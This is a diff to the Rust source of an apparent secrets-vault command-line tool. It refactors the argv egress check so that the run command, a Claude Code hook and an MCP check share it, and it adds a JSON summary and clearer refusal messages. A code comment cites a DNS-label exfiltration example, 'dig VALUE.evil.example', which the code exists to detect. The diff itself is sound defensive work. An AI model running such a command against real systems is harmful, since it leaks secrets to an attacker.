@@ -151,8 +151,68 @@ pub fn run(args: &RunArgs) -> Result<Exit> {
             Err(err)
         }
     };
-    audit::append(&opened.paths, entry)?;
+    audit::append(&opened.paths, entry.clone())?;
+    if let Some(file) = &args.json_summary {
+        write_summary(file, &entry, net_mode)?;
+    }
     outcome
+}
+
+/// `--json-summary FILE`: the run's audit entry as a harness reads it (names, hosts,
+/// decisions and counts; never a value), written when the run ends.
+fn write_summary(
+    file: &std::path::Path,
+    entry: &audit::Entry,
+    net: crate::net::NetMode,
+) -> Result<()> {
+    let summary = serde_json::json!({
+        "exit": entry.exit,
+        "network": net.as_str(),
+        "secrets": entry.secrets,
+        "destinations": entry.hosts,
+        "decision": entry.decision,
+        "redactions": entry.redactions,
+        "duration_ms": entry.duration_ms,
+        "note": entry.note,
+    });
+    let mut text = serde_json::to_vec_pretty(&summary).unwrap_or_default();
+    text.push(b'\n');
+    std::fs::write(file, text).map_err(|e| Error::io("the --json-summary file", &e))
+}
+
+/// The refusal for denied (secret, destination) pairs, one clause per destination and rule:
+/// which secrets blocked the run, and the narrowing (`--only`) that lets it go ahead when
+/// the command does not need them.
+fn deny_message(denials: &[egress::Denial], text: &dyn Fn(&str) -> String) -> (String, String) {
+    let mut groups: Vec<(String, &str, Vec<&str>)> = Vec::new();
+    for d in denials {
+        let dest = text(&d.destination);
+        match groups
+            .iter_mut()
+            .find(|(g, rule, _)| *g == dest && *rule == d.rule)
+        {
+            Some((_, _, names)) => names.push(&d.secret),
+            None => groups.push((dest, &d.rule, vec![&d.secret])),
+        }
+    }
+    let clauses: Vec<String> = groups
+        .iter()
+        .map(|(dest, rule, names)| {
+            let shown = if names.len() > 3 {
+                format!("{} and {} more", names[..3].join(", "), names.len() - 3)
+            } else {
+                names.join(", ")
+            };
+            format!("{shown} may not be sent to {dest} ({rule})")
+        })
+        .collect();
+    let first = denials.first();
+    let name = first.map_or("NAME", |d| d.secret.as_str());
+    let host = groups.first().map_or("HOST", |(d, _, _)| d.as_str());
+    let hint = format!(
+        "if the command does not need {name}, name only the secrets it needs with `vault run --only NAME -- …`; otherwise `vault policy set {name} --allow {host}` changes the rule"
+    );
+    (format!("refusing to run: {}", clauses.join("; ")), hint)
 }
 
 /// The redaction patterns, compiled: every stored secret (not only the injected ones) and the
@@ -304,6 +364,38 @@ struct EgressCheck {
     decision: serde_json::Value,
 }
 
+/// The argv egress decision `vault run` makes for `plan`: `egress::check_argv` with the
+/// injected secrets' policies, and their values as the DNS-label rule's evidence. `run`,
+/// the Claude Code hook and MCP's `check` all call this, so they cannot disagree.
+pub(crate) fn argv_check(
+    opened: &Opened,
+    plan: &inject::Plan,
+    template: &[String],
+) -> egress::policy::Check {
+    let secrets: Vec<(&str, &egress::Policy)> = plan
+        .env
+        .iter()
+        .filter_map(|n| opened.contents.get(n).map(|e| (n.as_str(), &e.policy)))
+        .collect();
+    // A value sent out as a DNS label (`dig VALUE.evil.example`): names are
+    // case-insensitive, so the comparison is too. Short values stay out, as in the
+    // redactor's encodings.
+    let values: Vec<Vec<u8>> = plan
+        .env
+        .iter()
+        .filter_map(|n| opened.contents.get(n))
+        .map(|e| e.value.expose().to_ascii_lowercase())
+        .filter(|v| v.len() >= crate::secret::MIN_VALUE_LEN)
+        .collect();
+    let holds_secret = |host: &str| {
+        let host = host.as_bytes().to_ascii_lowercase();
+        values
+            .iter()
+            .any(|v| host.windows(v.len()).any(|w| w == v.as_slice()))
+    };
+    egress::check_argv(&secrets, template, &holds_secret)
+}
+
 /// Checks the destinations in argv against each injected secret's policy. Refusals and
 /// confirmations are audited here; an allowed run is audited when it ends.
 fn egress_check(
@@ -339,23 +431,7 @@ fn egress_check(
             Error::new(Exit::Denied, message).hint(hint)
         };
     const EVASION_HINT: &str = "an argv check cannot follow proxies, config files or header tricks; run the command without them";
-    // A value sent out as a DNS label (`dig VALUE.evil.example`): names are
-    // case-insensitive, so the comparison is too. Short values stay out, as in the
-    // redactor's encodings.
-    let values: Vec<Vec<u8>> = plan
-        .env
-        .iter()
-        .filter_map(|n| opened.contents.get(n))
-        .map(|e| e.value.expose().to_ascii_lowercase())
-        .filter(|v| v.len() >= crate::secret::MIN_VALUE_LEN)
-        .collect();
-    let holds_secret = |host: &str| {
-        let host = host.as_bytes().to_ascii_lowercase();
-        values
-            .iter()
-            .any(|v| host.windows(v.len()).any(|w| w == v.as_slice()))
-    };
-    let check = egress::check_argv(&secrets, &template, &holds_secret);
+    let check = argv_check(opened, plan, &template);
     let hosts: Vec<String> = check
         .destinations
         .iter()
@@ -375,12 +451,8 @@ fn egress_check(
         egress::policy::Decision::Deny(denials) => {
             let lines: Vec<String> = denials.iter().map(|d| text(&d.to_string())).collect();
             let decision = serde_json::json!({ "deny": lines });
-            Err(refuse(
-                hosts,
-                decision,
-                format!("refusing to run: {}", lines.join("; ")),
-                "`vault policy show` lists the rules; `vault policy set NAME --allow HOST` changes one",
-            ))
+            let (message, hint) = deny_message(&denials, &text);
+            Err(refuse(hosts, decision, message, &hint))
         }
         // Under --net strict|broker the network enforces the policy: what argv hides is
         // judged by the proxy, connection by connection. (A readable, denied destination
